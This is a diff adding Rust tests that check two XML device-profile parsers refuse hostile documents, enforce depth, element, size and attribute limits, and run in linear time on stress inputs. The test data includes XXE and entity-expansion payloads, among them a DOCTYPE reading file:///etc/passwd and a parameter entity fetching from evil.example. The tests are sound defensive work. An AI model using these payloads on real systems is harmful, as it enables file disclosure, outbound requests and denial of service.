@@ -1,0 +1,183 @@
+//! Documents made to harm, refused by both readers alike.
+
+use std::time::{Duration, Instant};
+
+use offhook_device_profile::mpp::FlatProfile;
+use offhook_device_profile::room_os::Configuration;
+use offhook_device_profile::{DocumentError, DocumentFault, Limits};
+
+/// What both readers say to a document of theirs with `inside` inside and `before` before it.
+fn faults(before: &str, inside: &str) -> [DocumentFault; 2] {
+    ["flat-profile", "Configuration"].map(|root| {
+        let xml = format!("{before}<{root}>{inside}</{root}>");
+        read(root, xml.as_bytes(), &Limits::default())
+            .unwrap_err()
+            .fault
+    })
+}
+
+fn read(root: &str, xml: &[u8], limits: &Limits) -> Result<(), DocumentError> {
+    if root == "Configuration" {
+        Configuration::parse(xml, limits).map(|_| ())
+    } else {
+        FlatProfile::parse(xml, limits).map(|_| ())
+    }
+}
+
+#[test]
+fn document_types_are_refused_before_they_can_define_anything() {
+    for before in [
+        "<!DOCTYPE x>",
+        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
+        "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
+        "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY % a SYSTEM \"http://evil.example/\"> %a;]>",
+    ] {
+        assert_eq!(
+            faults(before, "<A>&b;</A>"),
+            [DocumentFault::Doctype; 2],
+            "{before}"
+        );
+    }
+}
+
+#[test]
+fn entities_other_than_the_five_are_refused() {
+    for reference in [
+        "&a;",
+        "&nbsp;",
+        "&#0;",
+        "&#1;",
+        "&#xFFFE;",
+        "&#xD800;",
+        "&#x110000;",
+        "&#;",
+        "&#x;",
+        "&AMP;",
+    ] {
+        assert_eq!(
+            faults("", &format!("<A>{reference}</A>")),
+            [DocumentFault::Entity; 2],
+            "{reference}"
+        );
+        let attribute = format!("<A ua=\"{reference}\" item=\"{reference}\"/>");
+        assert_eq!(
+            faults("", &attribute),
+            [DocumentFault::Entity; 2],
+            "{reference}"
+        );
+    }
+}
+
+#[test]
+fn what_is_not_well_formed_is_refused() {
+    for inside in [
+        "<A>",
+        "</A>",
+        "<A></B>",
+        "<A>&amp</A>",
+        "<A>&</A>",
+        "<!-- -- -->",
+        "<![CDATA[",
+        "<?x",
+    ] {
+        assert_eq!(faults("", inside), [DocumentFault::Syntax; 2], "{inside}");
+    }
+    for root in ["flat-profile", "Configuration"] {
+        for xml in [
+            format!("<{root}/><{root}/>"),
+            format!("<{root}/>x"),
+            format!("<{root}>"),
+        ] {
+            let error = read(root, xml.as_bytes(), &Limits::default()).unwrap_err();
+            assert_eq!(error.fault, DocumentFault::Syntax, "{xml}");
+        }
+    }
+}
+
+#[test]
+fn bytes_that_are_no_xml_text_are_refused_where_they_stand() {
+    for root in ["flat-profile", "Configuration"] {
+        for (byte, fault) in [
+            (0, DocumentFault::Character),
+            (0xff, DocumentFault::Encoding),
+        ] {
+            let mut xml = format!("<{root}><A>_</A></{root}>").into_bytes();
+            let at = xml.iter().position(|byte| *byte == b'_').unwrap();
+            xml[at] = byte;
+            let error = read(root, &xml, &Limits::default()).unwrap_err();
+            assert_eq!((error.at, error.fault), (at as u64, fault));
+        }
+    }
+    assert_eq!(faults("", "<A>\u{fffe}</A>"), [DocumentFault::Character; 2]);
+    let latin = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>";
+    assert_eq!(faults(latin, ""), [DocumentFault::Encoding; 2]);
+}
+
+#[test]
+fn depth_elements_and_length_are_bounded_to_the_one() {
+    let nested = |levels: usize| format!("{}{}", "<A>".repeat(levels), "</A>".repeat(levels));
+    for root in ["flat-profile", "Configuration"] {
+        let answer = |inside: &str, limits: &Limits| {
+            let xml = format!("<{root}>{inside}</{root}>");
+            read(root, xml.as_bytes(), limits).map_err(|error| error.fault)
+        };
+        let limits = Limits::default();
+        assert_eq!(answer(&nested(31), &limits), Ok(()));
+        assert_eq!(answer(&nested(32), &limits), Err(DocumentFault::TooDeep));
+        assert_eq!(
+            answer(&nested(100_000), &limits),
+            Err(DocumentFault::TooDeep)
+        );
+        let mut few = Limits::default();
+        few.elements = 3;
+        assert_eq!(answer("<A/><B/>", &few), Ok(()));
+        assert_eq!(
+            answer("<A/><B/><C/>", &few),
+            Err(DocumentFault::TooManyElements)
+        );
+        let mut short = Limits::default();
+        short.document_bytes = format!("<{root}><A/></{root}>").len();
+        assert_eq!(answer("<A/>", &short), Ok(()));
+        assert_eq!(answer("<AB/>", &short), Err(DocumentFault::TooLarge));
+    }
+}
+
+#[test]
+fn attributes_are_few_and_each_is_there_once() {
+    let of = |count: usize| {
+        let attributes: Vec<String> = (0..count).map(|n| format!("a{n}=''")).collect();
+        format!("<A {}/>", attributes.join(" "))
+    };
+    for root in ["flat-profile", "Configuration"] {
+        let xml = format!("<{root}>{}</{root}>", of(32));
+        assert!(read(root, xml.as_bytes(), &Limits::default()).is_ok());
+    }
+    assert_eq!(faults("", &of(33)), [DocumentFault::Attribute; 2]);
+    assert_eq!(faults("", "<A a='' a=''/>"), [DocumentFault::Attribute; 2]);
+    assert_eq!(faults("", "<A a/>"), [DocumentFault::Attribute; 2]);
+}
+
+#[test]
+#[expect(clippy::disallowed_methods, reason = "it is the time that is tested")]
+fn hostile_documents_take_linear_time() {
+    let start = Instant::now();
+    for inside in [
+        format!("<A {}/>", "a='' ".repeat(200_000)),
+        "<A/>".repeat(200_000),
+        format!("<A>{}</A>", "&#10;".repeat(200_000)),
+        format!("<A>{}</A>", "\n".repeat(1_000_000)),
+        "<!---->".repeat(140_000),
+        "<".repeat(1_000_000),
+        format!("<A>{}</A>", "a&amp;".repeat(160_000)),
+    ] {
+        for root in ["flat-profile", "Configuration"] {
+            let xml = format!("<{root}>{inside}</{root}>");
+            let _ = read(root, xml.as_bytes(), &Limits::default());
+        }
+    }
+    assert!(
+        start.elapsed() < Duration::from_secs(20),
+        "{:?}",
+        start.elapsed()
+    );
+}
